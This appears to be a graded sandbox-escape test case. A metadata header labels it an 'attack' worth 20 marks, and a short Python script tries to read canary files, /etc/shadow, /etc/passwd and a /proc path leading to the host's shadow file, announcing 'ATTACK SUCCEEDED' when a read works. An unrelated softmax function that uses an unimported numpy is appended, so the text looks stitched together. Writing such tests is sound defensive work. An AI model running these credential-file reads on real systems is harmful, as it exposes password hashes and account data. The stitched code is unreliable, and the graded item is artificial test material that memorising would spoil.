# /// attack
# what = "reads a file in the home folder and one in /tmp"
# state = "graded"
# marks = 20
# ///
for path in (
    "@CANARY_HOME@",
    "@CANARY_TMP@",
    "/etc/shadow",
    "/etc/passwd",
    "/proc/1/root//etc/shadow",
):
    try:
        print("ATTACK SUCCEEDED", open(path).read())
    except OSError as error:
        print(error)


def softmax(z, axis=-1):
    z = np.asarray(z, dtype=float)
    weights = np.exp(z - z.max(axis=axis, keepdims=True))
    return weights / weights.sum(axis=axis, keepdims=True)
